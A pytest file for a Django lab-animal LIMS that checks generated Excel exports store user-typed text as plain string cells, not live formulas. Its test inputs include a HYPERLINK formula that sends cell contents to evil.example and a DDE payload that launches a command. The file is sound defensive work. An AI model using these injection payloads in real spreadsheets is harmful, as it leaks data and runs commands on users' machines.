"""Formula injection (issue 17 point 3): text typed by users is never a live formula in any workbook we generate.

Each test downloads a generated workbook (upload templates, list and report exports, the census) holding names typed
as formulas and reads the .xlsx's own XML: no worksheet may contain an `<f>` element, and the cell must hold exactly
the text typed (no apostrophe added) as a string cell. openpyxl on its own writes any string starting with "=" as
a formula, which Excel runs when the file is opened.
"""
import datetime as dt
import io
import zipfile

import pytest
from django.urls import reverse
from lxml import etree
from openpyxl import Workbook

from lims.exports import fill_cell, xlsx_response
from lims.reports.base import Report, Table
from lims.reports.base import xlsx_response as report_xlsx_response
from procedures.models import Parameter
from tests.factories import (
    CageFactory,
    CagePlacementFactory,
    ColonyFactory,
    EsCellFactory,
    GeneFactory,
    GenotypingAssayFactory,
    MouseFactory,
    PlanFactory,
    RackFactory,
    RoomFactory,
    StrainFactory,
    ZygosityRuleFactory,
    body_weight_procedure,
)
from tests.procedures.helpers import scheduled_test

pytestmark = pytest.mark.django_db

NS = {"m": "http://schemas.openxmlformats.org/spreadsheetml/2006/main"}
HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
DDE = "=cmd|' /C calc'!A0"


def cells_of(content: bytes) -> dict[str, dict[str, tuple[str, str]]]:
    """{sheet part: {cell ref: (type, text)}} read from the workbook's XML; fails if any worksheet has a formula."""
    found: dict[str, dict[str, tuple[str, str]]] = {}
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        names = archive.namelist()
        shared = []
        if "xl/sharedStrings.xml" in names:
            root = etree.fromstring(archive.read("xl/sharedStrings.xml"))
            shared = ["".join(si.itertext()) for si in root.findall("m:si", NS)]
        for name in names:
            if not (name.startswith("xl/worksheets/") and name.endswith(".xml")):
                continue
            root = etree.fromstring(archive.read(name))
            formulas = root.findall(".//m:f", NS)
            assert not formulas, f"{name} has live formulas: {[etree.tostring(f).decode() for f in formulas]}"
            sheet = found.setdefault(name, {})
            for cell in root.iterfind(".//m:c", NS):
                kind = cell.get("t", "n")
                if kind == "inlineStr":
                    inline = cell.find("m:is", NS)
                    text = "" if inline is None else "".join(inline.itertext())
                elif kind == "s":
                    text = shared[int(cell.findtext("m:v", namespaces=NS))]
                else:
                    text = cell.findtext("m:v", default="", namespaces=NS)
                sheet[cell.get("r")] = (kind, text)
    return found


def assert_plain_text(content: bytes, *texts: str) -> None:
    """Every text is in some cell, exactly as typed, as a string cell (inline or shared), and nothing is a formula."""
    cells = [value for sheet in cells_of(content).values() for value in sheet.values()]
    for text in texts:
        kinds = {kind for kind, value in cells if value == text}
        assert kinds and kinds <= {"inlineStr", "s", "str"}, f"{text!r} not written as plain text: {kinds or 'absent'}"


def download(response) -> bytes:
    assert response.status_code == 200, response
    return b"".join(response.streaming_content) if response.streaming else response.content


def test_genotyping_template_writes_assay_allele_and_calls_as_text(client, tech, centre):
    assay = GenotypingAssayFactory(centre=centre, name=HYPERLINK, allele="@SUM(1,2)", calls=["+1+1", "-2+3"])
    ZygosityRuleFactory(assay=assay, call="+1+1", zygosity="heterozygous")
    client.force_login(tech)

    content = download(client.get(reverse("colonies:genotyperesult_import_template")))

    assert_plain_text(content, HYPERLINK, "@SUM(1,2)", "+1+1", "-2+3")


def test_microinjection_template_writes_es_cells_and_plans_as_text(client, manager, centre):
    EsCellFactory(centre=centre, name=HYPERLINK)
    PlanFactory(centre=centre, gene=GeneFactory(symbol=DDE))
    client.force_login(manager)

    content = download(client.get(reverse("colonies_import:microinjection_import_template")))

    assert_plain_text(content, HYPERLINK, DDE)


def test_es_cell_template_writes_strain_names_as_text(client, manager):
    StrainFactory(name=HYPERLINK)
    client.force_login(manager)

    content = download(client.get(reverse("colonies_import:escell_import_template")))

    assert_plain_text(content, HYPERLINK)


def test_procedure_template_writes_specimen_ids_and_options_as_text(client, tech, centre):
    procedure = body_weight_procedure()
    Parameter.objects.filter(key="IMPC_BWT_002_001").update(options=["=1+1", "calm, or not"])
    mouse = MouseFactory(centre=centre, specimen_id="=1+1", date_of_birth=dt.date(2026, 1, 5))
    scheduled_test(mouse, procedure, due=dt.date(2026, 2, 2))
    client.force_login(tech)

    content = download(client.get(reverse("procedures:procedure_template", args=[procedure.key])))

    assert_plain_text(content, "=1+1")
    first_sheet = cells_of(content)["xl/worksheets/sheet1.xml"]
    assert first_sheet["A3"] == ("inlineStr", "=1+1")  # below the names row and the keys row


def test_list_export_keeps_the_exact_text_as_a_string_cell(client, manager, centre):
    MouseFactory(centre=centre, colony=ColonyFactory(centre=centre), specimen_id="=HYPERLINK(1)")
    client.force_login(manager)

    content = download(client.get(reverse("colonies:mouse_list"), {"q": "HYPERLINK", "export": "xlsx"}))

    assert_plain_text(content, "=HYPERLINK(1)")  # not "'=HYPERLINK(1)": the cell type protects, the text is kept


def test_report_workbook_writes_text_as_text():
    table = Table(key="t", title="Colonies", headers=["colony", "mice"])
    table.add([HYPERLINK, 3])

    response = report_xlsx_response(Report(name="x", title="X", tables=[table]))

    assert_plain_text(response.content, HYPERLINK)


def test_census_workbook_writes_room_and_colony_names_as_text(client, tech, centre):
    room = RoomFactory(centre=centre, building="@MLC", name="=A1")
    cage = CageFactory(centre=centre, rack=RackFactory(centre=centre, room=room, name="R"), cage_id="c1",
                       opened_on=dt.date(2026, 1, 1))
    colony = ColonyFactory(centre=centre, name="-X")
    mouse = MouseFactory(centre=centre, colony=colony, date_of_birth=dt.date(2026, 1, 1))
    CagePlacementFactory(mouse=mouse, cage=cage, started_on=dt.date(2026, 1, 1))
    client.force_login(tech)

    response = client.get(reverse("colonies:census"),
                          {"date": "2026-03-10", "from": "2026-03-01", "to": "2026-03-06", "export": "xlsx"})

    assert_plain_text(download(response), "@MLC / =A1", "-X")


def test_exports_keep_numbers_and_dates_native():
    response = xlsx_response(["n", "when", "text"], [[-1.5, dt.date(2026, 1, 5), "-1.5"]], "x")
    cells = cells_of(download(response))["xl/worksheets/sheet1.xml"]
    assert cells["A2"] == ("n", "-1.5")
    assert cells["B2"][0] == "n"  # a date is a number with a date format
    assert cells["C2"] == ("inlineStr", "-1.5")  # text stays text, as it was


@pytest.mark.parametrize("text", [HYPERLINK, "+1", "-x", "@x", "\t=1", "\r=1", "#N/A", "#REF!"])
def test_every_formula_prefix_and_error_code_becomes_a_quoted_string_cell(text):
    sheet = Workbook().active

    cell = fill_cell(sheet.cell(row=1, column=1), text)

    assert (cell.data_type, cell.value) == ("s", text)
    assert cell.quotePrefix == text.startswith(("=", "+", "-", "@", "\t", "\r"))


def test_characters_xml_cannot_carry_are_dropped_instead_of_failing_the_download():
    cell = fill_cell(Workbook().active.cell(row=1, column=1), "a\x00b\x1fc")
    assert cell.value == "abc"
